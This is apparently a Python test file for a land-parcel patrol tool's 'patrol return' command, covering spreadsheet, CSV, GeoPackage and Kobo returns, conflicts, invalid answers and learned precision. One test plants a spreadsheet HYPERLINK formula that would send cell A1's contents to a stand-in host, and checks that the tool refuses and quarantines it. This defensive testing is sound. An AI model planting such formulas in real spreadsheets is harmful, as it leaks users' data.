"""What comes back from the field, through the command line as a user would."""

import json
import sqlite3
from collections.abc import Callable
from contextlib import closing
from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pandas as pd
import pytest

from geo.steps.patrol import Order, plan_patrols
from geo.steps.plan_file import Planned
from geo.steps.scan import scan
from geo.store import last_scan, open_store, read_findings, read_registers

pytestmark = pytest.mark.xdist_group("sample")

OK, UNUSABLE, PARTLY = 0, 3, 4
Field = Any
"""Of ``conftest.py``."""


def visits_of(field: Field) -> pd.DataFrame:
    with open_store(field.settings.store).connect() as conn:
        return read_registers(conn)["visit"].set_index("number")


def counts_of(field: Field) -> list[int]:
    tables = ("intake", "ledger_entry", "refused", "note")
    with closing(sqlite3.connect(field.settings.store)) as conn:
        return [conn.execute(f"select count(*) from {table}").fetchone()[0] for table in tables]


def answers(visit: Planned, **cells: str) -> dict[str, str]:
    return {"visit_id": visit.visit_id, "parcel_id": visit.parcel_id, "visited_on": "2026-11-09", **cells}


def test_a_book_edited_in_libreoffice_comes_back_with_edits_a_conflict_an_unknown_visit_and_an_attack(
    field: Field, office: Callable[..., None]
) -> None:
    patrol = field.visits[0].visit_id.rpartition("-")[0]
    mine = [visit for visit in field.visits if visit.visit_id.startswith(f"{patrol}-")][:6]
    path, _, at = field.form(mine[0])

    def typed(visit: Planned, header: str, text: str, kind: str = "String") -> list[object]:
        return ["form", field.form(visit)[1] - 1, at[header], kind, text]

    first, second = field.folder / "first.xlsx", field.folder / "second.xlsx"
    office("edit", path, first, [typed(mine[0], "核查日期", "2026-11-09"), typed(mine[0], "现场状态", "正在施工")])
    assert field.run("patrol", "return", first).code == OK
    edits = [
        typed(mine[0], "核查日期", "2026-11-09"),
        typed(mine[0], "现场状态", "已停工"),
        *(typed(visit, "核查日期", "2026年11月9日") for visit in mine[1:4]),
        *(typed(visit, "现场状态", "正在施工") for visit in mine[1:4]),
        typed(mine[1], "各层层高", "一层 8.2；二层 4.5 & <b>"),
        typed(mine[4], "核查编号", f"{patrol}-99"),
        typed(mine[4], "核查日期", "2026-11-09"),
        typed(mine[5], "核查日期", "2026-11-09"),
        typed(mine[5], "备注", '=HYPERLINK("http://x.example/"&A1;"点")', "Formula"),
    ]
    office("edit", path, second, edits)
    said = field.run("patrol", "return", second, "--json")
    assert said.code == PARTLY
    [table] = json.loads(said.out)["tables"]
    assert {name: table[name] for name in ("edited", "conflicts", "unknown", "formulas", "refused")} == {
        "edited": 3,
        "conflicts": 1,
        "unknown": 1,
        "formulas": 1,
        "refused": 3,
    }
    assert {one["code"] for one in table["refusals"]} == {
        "patrol.visit_conflict",
        "patrol.visit_unknown",
        "ingest.formula",
    }
    kept = visits_of(field)
    assert set(kept.index) == {visit.visit_id for visit in mine[:4]}
    assert kept.loc[mine[0].visit_id, "site_state"] == "working"
    assert kept.loc[mine[1].visit_id, "storey_heights"] == "一层 8.2；二层 4.5 & <b>"
    assert field.run("quarantine", "list").out.count("second.xlsx") == 3
    with closing(sqlite3.connect(field.settings.store)) as conn:
        raw = " ".join(text for (text,) in conn.execute("select raw from refused"))
    assert "HYPERLINK" in raw  # nothing is lost
    assert "已停工" in raw
    assert f"{patrol}-99" in raw


def test_the_same_file_again_changes_nothing(field: Field) -> None:
    book = field.csv("a.csv", answers(field.visits[0], site_state="working"))
    field.run("patrol", "return", book)
    before = counts_of(field)
    said = field.run("patrol", "return", book)
    assert said.code == OK
    assert "未作改动" in said.out
    assert counts_of(field) == before


def test_two_books_that_differ_in_one_visit_are_both_refused_and_each_names_the_other(field: Field) -> None:
    one = field.csv("one.csv", answers(field.visits[0], site_state="working"))
    two = field.csv("two.csv", answers(field.visits[0], site_state="stopped"), answers(field.visits[1], workers="12"))
    said = field.run("patrol", "return", one, two)
    assert said.code == PARTLY
    assert "two.csv:2" in said.out
    assert "one.csv:2" in said.out
    assert visits_of(field).index.tolist() == [field.visits[1].visit_id]


def test_two_books_that_tell_different_things_of_one_visit_are_merged(field: Field) -> None:
    one = field.csv("one.csv", answers(field.visits[0], site_state="working"))
    two = field.csv("two.csv", answers(field.visits[0], workers="12"))
    assert field.run("patrol", "return", one, two).code == OK
    visit = visits_of(field).loc[field.visits[0].visit_id]
    assert (visit["site_state"], visit["workers"]) == ("working", 12)


def test_a_visit_settles_an_undetermined_finding_and_the_proof_names_the_visit(
    field: Field, sample_scan: pd.DataFrame
) -> None:
    earlier = sample_scan.set_index(["parcel_id", "rule_id"])["outcome"]
    assert earlier["云麓2022-060", "order53-idle-2-area"] == "undetermined"
    visit = next(one for one in field.visits if one.parcel_id == "云麓2022-060")
    book = field.csv("a.csv", answers(visit, site_state="未动工", visit_result="found"))
    assert field.run("patrol", "return", book).code == OK
    again = scan(open_store(field.settings.store), field.settings, "2026-10", known_at=datetime.now(UTC))
    found = again.assessment.findings.set_index(["parcel_id", "rule_id"])["outcome"]
    assert found["云麓2022-060", "order53-idle-2-area"] == "not_met"
    assert again.assessment.fact_sources.loc["云麓2022-060", "is_started"].startswith("register:visit/2")
    said = field.run("explain", "云麓2022-060", "--as-of", "2026-10-31")
    assert "“现场核查”第 2 行" in said.out


def test_what_was_given_must_come_back_as_it_was_sent(field: Field) -> None:
    path, row, at = field.form(field.visits[0])
    book = openpyxl.load_workbook(path)
    book["form"].cell(row, at["宗地"] + 1).value = field.visits[1].parcel_id
    book["form"].cell(row, at["核查日期"] + 1).value = "2026-11-09"
    book.save(field.folder / "moved.xlsx")
    said = field.run("patrol", "return", "moved.xlsx")
    assert said.code == PARTLY
    assert "与发出时不同" in said.out
    other = field.csv("b.csv", {**answers(field.visits[0]), "parcel_id": "云麓2019-999"})
    assert field.run("patrol", "return", other).code == PARTLY
    assert visits_of(field).empty


@pytest.mark.parametrize(
    ("cells", "code"),
    [
        ({"visited_on": ""}, "ingest.no_identifier_value"),
        ({"visited_on": "2099-01-01"}, "patrol.day_to_come"),
        ({"started_on": "2026-11-20"}, "patrol.day_to_come"),
        ({"visited_on": "gestern"}, "ingest.not_a_date"),
        ({"workers": "-3"}, "ingest.negative_value"),
        ({"pit_fraction": "150%"}, "ingest.share_over_one"),
    ],
)
def test_answers_that_cannot_be_are_refused_with_their_reason(field: Field, cells: dict[str, str], code: str) -> None:
    book = field.csv("a.csv", {**answers(field.visits[0], remark="x"), **cells})
    said = field.run("patrol", "return", book, "--json")
    assert said.code == PARTLY
    assert [one["code"] for one in json.loads(said.out)["tables"][0]["refusals"]] == [code]


def test_a_geopackage_filled_in_qfield_and_a_table_of_kobo_come_back(field: Field) -> None:
    visit, other = field.visits[:2]
    packed = field.folder / "patrols" / "2026-11-09" / visit.visit_id.rpartition("-")[0] / "visits.gpkg"
    with closing(sqlite3.connect(packed)) as conn, conn:
        conn.execute(
            "update findings set visited_on = '2026-11-09', site_state = 'working' where visit_id = ?",
            (visit.visit_id,),
        )
    assert field.run("patrol", "return", packed).code == OK
    kobo = {
        "start": "2026-11-09T09:00:00.000+08:00",
        "group/visit_id": other.visit_id.replace(" ", "_"),
        "group/position": "28.31 119.57 0 5",
        "group/visited_on": "2026-11-09",
        "group/site_state": "stopped",
        "_uuid": "8f1c",
    }
    assert field.run("patrol", "return", field.csv("kobo.csv", kobo)).code == OK
    kept = visits_of(field)
    assert kept.loc[visit.visit_id, "site_state"] == "working"
    assert kept.loc[other.visit_id, ["site_state", "visit_place"]].tolist() == ["stopped", "28.31 119.57 0 5"]


def test_texts_that_look_like_formulas_are_kept_as_texts_and_said(field: Field) -> None:
    book = field.csv("a.csv", answers(field.visits[0], remark="@SUM(A1)", explanation="'=1+1"))
    said = field.run("patrol", "return", book)
    assert said.code == OK
    assert "像公式" in said.out
    visit = visits_of(field).loc[field.visits[0].visit_id]
    assert (visit["remark"], visit["explanation"]) == ("@SUM(A1)", "=1+1")


def test_the_plan_fills_in_reasons_and_whoever_was_drawn(field: Field) -> None:
    field.run("patrol", "return", field.csv("a.csv", answers(field.visits[0])))
    visit = visits_of(field).loc[field.visits[0].visit_id]
    assert visit["visit_reason"] == "\n".join(field.visits[0].why)
    assert visit["visited_on"].date() == date(2026, 11, 9)


@pytest.mark.parametrize(("content", "plans"), [("a,b\n1,2\n", "patrols"), ("visit_id\nV1\n", "nowhere")])
def test_what_cannot_be_used_at_all_writes_nothing(field: Field, content: str, plans: str) -> None:
    (field.folder / "a.csv").write_text(content)
    said = field.run("patrol", "return", "a.csv", "--plans", plans)
    assert said.code == UNUSABLE
    assert len(said.err.strip().splitlines()) == 1


def test_answers_of_drawn_visits_teach_precision_and_nothing_of_what_was_missed(field: Field) -> None:
    plan = json.loads((field.folder / "patrols" / "2026-11-09" / "plan.json").read_text("utf-8"))
    drawn = {entry["parcel_id"] for entry in plan["control"]}
    told = [visit for visit in field.visits if visit.parcel_id in drawn]
    said = ["不属实", *["属实"] * (len(told) - 1)]
    rows = [
        answers(visit, visit_result=result, rejection_reason="<已竣工>" if result == "不属实" else "")
        for visit, result in zip(told, said, strict=True)
    ]
    assert field.run("patrol", "return", field.csv("v.csv", *rows)).code == OK
    ended = field.run("patrol", "learn", field.folder / "patrols" / "2026-11-09" / "plan.json")
    assert ended.code == OK, ended.err
    learned = pd.read_csv(field.folder / "learned" / "learned.csv")
    assert set(learned["quantity"]) == {"precision"}
    with open_store(field.settings.store).connect() as conn:
        findings = read_findings(conn, last_scan(conn).scan_id)
    met = findings[(findings["outcome"] == "met") & findings["parcel_id"].isin([visit.parcel_id for visit in told])]
    flagged = met.groupby("label")["parcel_id"].nunique()
    counts = learned[learned["by"] == "all"].set_index("label")["count"]
    assert len(flagged)
    assert counts.to_dict() == flagged.to_dict()


def test_a_plan_knows_the_visits_that_were_made_before_it(field: Field) -> None:
    engine = open_store(field.settings.store)
    order = Order(first_on=date(2026, 12, 7), days=5, seed=1, steps=0)
    before = plan_patrols(engine, order).reasons
    waiting = set(before.loc[before["reason"] == "routine", "parcel_id"])
    visit = next(one for one in field.visits if one.parcel_id in waiting)
    assert field.run("patrol", "return", field.csv("v.csv", answers(visit, site_state="working"))).code == OK
    after = plan_patrols(engine, order).reasons
    assert waiting - set(after.loc[after["reason"] == "routine", "parcel_id"]) == {visit.parcel_id}
    same_week = plan_patrols(engine, replace(order, first_on=date(2026, 11, 9)))
    assert visit.parcel_id in set(same_week.reasons.loc[same_week.reasons["reason"] == "routine", "parcel_id"])
